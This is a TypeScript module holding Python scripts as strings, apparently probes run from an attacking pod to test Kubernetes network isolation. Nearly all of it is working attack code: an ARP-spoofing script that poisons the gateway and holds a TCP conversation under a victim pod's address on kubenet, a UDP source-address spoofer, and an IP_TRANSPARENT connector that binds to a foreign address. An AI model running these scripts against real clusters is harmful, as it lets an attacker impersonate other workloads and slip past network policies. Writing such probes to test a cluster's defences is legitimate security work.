/**
 * The known weakness of kubenet, as a program for an attacking pod: it tells the node by ARP that the victim's address is here, and then
 * holds a TCP conversation under that address. Arguments: victim, gateway, destination, port. Prints what the other side said, or why
 * nothing came of it. Needs CAP_NET_RAW, like every way of doing this.
 */
export const arpSpoof = String.raw`
import socket, struct, sys, time
victim, gateway, target, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
try:
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except PermissionError:
    print('refused: no raw sockets'); sys.exit(0)
wire.bind(('eth0', 0))
wire.settimeout(0.2)
mac = wire.getsockname()[4]
quad = socket.inet_aton
def checksum(data):
    if len(data) % 2: data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def arp(kind, dst, tip, tmac):
    wire.send(dst + mac + b'\x08\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, kind) + mac + quad(victim) + tmac + quad(tip))
def gateway_mac():
    try: socket.create_connection((target, port), 0.5).close()
    except OSError: pass
    for line in open('/proc/net/arp').read().splitlines()[1:]:
        fields = line.split()
        if fields[0] == gateway: return bytes.fromhex(fields[3].replace(':', ''))
    return b'\xff' * 6
router = gateway_mac()
def poison():
    arp(1, router, gateway, b'\0' * 6)
    arp(2, router, gateway, router)
def segment(sport, seq, ack, flags):
    head = struct.pack('!HHIIBBHHH', sport, port, seq, ack, 0x50, flags, 65000, 0, 0)
    pseudo = quad(victim) + quad(target) + struct.pack('!BBH', 0, 6, len(head))
    head = head[:16] + struct.pack('!H', checksum(pseudo + head)) + head[18:]
    ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(head), 1, 0, 64, 6, 0) + quad(victim) + quad(target)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    wire.send(router + mac + b'\x08\x00' + ip + head)
def receive(sport):
    end = time.time() + 0.4
    while time.time() < end:
        try: frame = wire.recv(4096)
        except OSError: continue
        if frame[12:14] != b'\x08\x00' or frame[23] != 6 or frame[26:30] != quad(target) or frame[30:34] != quad(victim): continue
        tcp = frame[14 + (frame[14] & 15) * 4:14 + struct.unpack('!H', frame[16:18])[0]]
        if struct.unpack('!H', tcp[2:4])[0] != sport: continue
        seq, ack, off, flags = struct.unpack('!IIBB', tcp[4:14])
        return seq, ack, flags, tcp[(off >> 4) * 4:]
for attempt in range(4):
    sport = 40000 + attempt
    poison()
    segment(sport, 1000, 0, 2)
    poison()
    answer = receive(sport)
    if not answer or answer[2] & 0x12 != 0x12: continue
    segment(sport, 1001, (answer[0] + 1) & 0xffffffff, 0x10)
    for _ in range(5):
        said = receive(sport)
        if said and said[3]:
            print('heard: ' + said[3].decode()); sys.exit(0)
print('refused: no answer')
`;

/** Sends one UDP packet with a source address of the sender's choice. Arguments: source, target, port, text. Needs CAP_NET_RAW. */
export const udpSpoof = String.raw`
import socket, struct, sys
source, target, port, text = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4].encode()
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
udp = struct.pack('!HHHH', 5000, port, 8 + len(text), 0) + text
ip = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + socket.inet_aton(source) + socket.inet_aton(target)
raw.sendto(ip + udp, (target, port))
print('sent')
`;

/** Connects, says something at once, and prints what it hears. Arguments: target, port, what to say. */
export const talk = String.raw`
import socket, sys
try:
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)
    s.sendall(sys.argv[3].encode().decode('unicode_escape').encode())
    heard = b''
    while True:
        part = s.recv(65536)
        if not part: break
        heard += part
    print(heard.decode())
except OSError as wrong:
    print('refused: ' + str(wrong))
`;

/** Connects under a foreign address, which a process with CAP_NET_RAW may bind to (IP_TRANSPARENT). Arguments: source, target, port. */
export const transparent = String.raw`
import socket, sys
try:
    s = socket.socket()
    s.setsockopt(socket.IPPROTO_IP, 19, 1)
    s.bind((sys.argv[1], 0))
    s.settimeout(2)
    s.connect((sys.argv[2], int(sys.argv[3])))
    print('heard: ' + s.recv(100).decode())
except OSError as wrong:
    print('refused: ' + type(wrong).__name__)
`;
